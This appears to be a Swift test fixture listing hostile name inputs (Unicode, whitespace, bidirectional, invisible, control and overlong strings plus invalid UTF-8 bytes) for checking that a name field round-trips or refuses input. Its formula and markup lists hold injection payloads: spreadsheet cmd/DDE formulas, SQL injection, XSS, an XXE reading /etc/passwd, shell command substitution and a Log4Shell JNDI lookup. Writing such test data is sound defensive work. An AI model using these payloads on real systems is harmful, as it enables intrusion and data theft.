/// Texts that have broken somebody's program: as a name, each either comes back as it went in or is refused.
package enum HostileNames {
    /// All of them that are text.
    package static let texts: [String] =
        words + formulas + markup + scripts + spaces + bidirectional + invisible + controls + marks + long

    /// Bytes that are no UTF-8, or that end a string where one does not look.
    package static let bytes: [[UInt8]] = [
        [0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf], [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80], [0xc0, 0x80], [0xc1, 0xbf],
        [0xf4, 0x90, 0x80, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xff], [0xfe, 0xff], [0x80], [0xe2, 0x82],
        [0xf0, 0x9f, 0x98], [0xe9], [0x4d, 0xfc, 0x6c, 0x6c, 0x65, 0x72], [0x93, 0x41, 0x94], [0x81], [0x00],
        [0x41, 0x00], [0x00, 0x41], [0x41, 0x00, 0x42],
    ]

    private static let words = [
        "null", "NULL", "nil", "None", "undefined", "NaN", "true", "false", "0", "-0", "1e9", "Infinity", "N/A", "#N/A",
        "\\N", "\\.", "\\", "\\\\", "\\x41", "\\u0041", "\\0", "\\r\\n", "%00", "%s%s%n", "%n", "{}", "[]", "()", "\"",
        "\"\"",
        "'", "''", "O'Brien", "O\u{2019}Brien", "D\u{2bc}Souza", "X", "Ng", "Æ", "李", "é", "ß", "İ", "ı", "ǅ", "ﬁ", "Ⅷ",
        "3rd", "J.R.", "Mary-Jane", "van der Berg", "bin Laden-Smith", "a,b", "a;b", "a|b", "a\"b", "a'b", "a`b", "$1",
        "$$",
        ":name", "?", "*", "~", "/etc/passwd", "../../etc/passwd", "C:\\CON", "CON", "aux", "con.txt", "--help", "-rf",
    ]

    private static let formulas = [
        "=1+1", "=cmd|'/C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1", "'=1+1", "''=1+1", "'-Smith", "=", "+", "-", "@",
        "=HYPERLINK(\"http://example.org\")", "\u{ff1d}1+1", "\u{ff0b}1", "\u{ff0d}1", "\u{ff20}SUM", "-Smith", "+44",
        "=\"a\"", "@me", "'@me", "'", "'''", "' =1", " =1+1", "a=1", "\"=1+1\"", "|calc", "%0A=1+1", "=1+1;2", "=A1,B2",
        "-2+3+cmd|' /C calc'!A0", "+cmd|'/C notepad'!A1", "=IMPORTXML(\"http://a\",\"//b\")", "=DDE(\"a\";\"b\")",
    ]

    private static let markup = [
        "'; DROP TABLE person; --", "Robert'); DROP TABLE students;--", "1 OR 1=1", "' OR ''='", "/* */", "--", "; --",
        "$tag$x$tag$", "U&'\\0041'", "E'\\n'", "COPY x FROM PROGRAM 'id'", "pg_sleep(9)", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<b>bold</b>", "&amp;", "&#65;", "<!--", "-->", "]]>", "<![CDATA[x]]>",
        "<?xml version=\"1.0\"?>", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "javascript:alert(1)", "{{x}}",
        "{{{x}}}",
        "{{#x}}{{/x}}", "{{>card}}", "{{!x}}", "${x}", "#{x}", "<%= x %>", "{% raw %}", "[[x]]", "\\(x)", "%{x}",
        "@{x}",
        "`id`", "$(id)", "| id", "; id", "& id", "> /dev/null", "${jndi:ldap://a}", "\u{1b5}x", "a\u{301}<b>",
    ]

    private static let scripts = [
        "محمد", "فاطمة الزهراء", "שרה", "ܡܪܝܡ", "ދިވެހި", "नरेंद्र", "क्‍ष", "ක්‍රිෂ්ණ", "മലയാളം", "ন্‍য", "فارسی‌زبان",
        "మీ", "ಕನ್ನಡ", "தமிழ்", "ਗੁਰਪ੍ਰੀਤ", "ไทย", "ភាសា", "မြန်မာ", "བོད", "ᠮᠣᠩᠭᠣᠯ", "Ελένη", "Ольга", "Ђорђе",
        "თამარ", "Հայկ", "አማርኛ", "ⵜⵉⴼⵉⵏⴰⵖ", "王小明", "𠮷野", "𡈽屋", "𩸽", "ひらがな", "カタカナ", "ｶﾀｶﾅ", "한글", "각", "😀", "👩‍👩‍👧",
        "🇬🇧", "👍🏽", "Nguyễn", "Nguyễn", "Łukasz", "Þór", "Đặng", "Ștefan", "Şule", "ʻOkina", "Ǥǥ", "𝔸𝕕𝕒", "Ａｄａ", "Å", "Å",
        "Ω",
        "葛\u{e0100}城", "❤\u{fe0f}", "Ꙗ", "\u{fb1d}",
    ]

    private static let spaces = [
        " Ada", "Ada ", "  Ada  Maria  ", "Ada\tMaria", "\tAda", "Ada\n", "Ada\nMaria", "Ada\r\nMaria", "Ada\rMaria",
        "\r",
        "\n", " ", "", "\t", "Ada\u{a0}Maria", "\u{a0}Ada", "Ada\u{3000}Maria", "\u{3000}", "Ada\u{2009}Maria",
        "Ada\u{202f}Maria", "Ada\u{1680}Maria", "Ada\u{2028}Maria", "Ada\u{2029}Maria", "\u{2028}Ada", "Ada\u{85}Maria",
        "\u{85}Ada", "Ada\u{b}", "\u{c}Ada",
    ]

    /// Each alone, before, within and behind a name: what trims one of them silently changes what was entered.
    private static func around(_ scalars: [Unicode.Scalar]) -> [String] {
        scalars.flatMap { scalar in
            ["\(scalar)", "\(scalar)Adaora", "Ada\(scalar)ora", "Adaora\(scalar)"]
        }
    }

    private static let bidirectional = around([
        "\u{202a}", "\u{202b}", "\u{202c}", "\u{202d}", "\u{202e}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}",
        "\u{200e}", "\u{200f}", "\u{61c}",
    ])

    private static let invisible = around([
        "\u{200b}", "\u{200c}", "\u{200d}", "\u{2060}", "\u{feff}", "\u{ad}", "\u{180e}", "\u{115f}", "\u{3164}",
        "\u{ffa0}", "\u{fffd}", "\u{fffe}", "\u{fff9}", "\u{e0041}", "\u{34f}", "\u{e000}", "\u{10ffff}",
    ])

    private static let controls =
        around(["\u{1}", "\u{7}", "\u{8}", "\u{1b}", "\u{7f}", "\u{80}", "\u{9f}"]) + [
            "\u{1b}[31mAda", "Ada\u{8}\u{8}x",
        ]

    private static let marks = [
        "\u{301}", "\u{301}Ada", "A\u{301}da", "Ada\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
        "Z" + String(repeating: "\u{301}", count: 40), "Z" + String(repeating: "\u{489}\u{36f}", count: 100),
        "Z" + String(repeating: "\u{301}", count: 299), "Z" + String(repeating: "\u{301}", count: 300),
        "a\u{323}\u{307}", "a\u{307}\u{323}", "\u{1100}\u{1161}\u{11a8}", "q\u{307}\u{323}",
    ]

    private static let long = [
        String(repeating: "a", count: 300), String(repeating: "a", count: 301), String(repeating: "😀", count: 300),
        String(repeating: "😀", count: 301), String(repeating: "ab ", count: 100), String(repeating: "é", count: 300),
        String(repeating: "x", count: 9_999), String(repeating: "x", count: 10_000),
        String(repeating: "x", count: 10_001),
        String(repeating: "\"", count: 300), String(repeating: "'", count: 300), String(repeating: ",", count: 200),
    ]
}
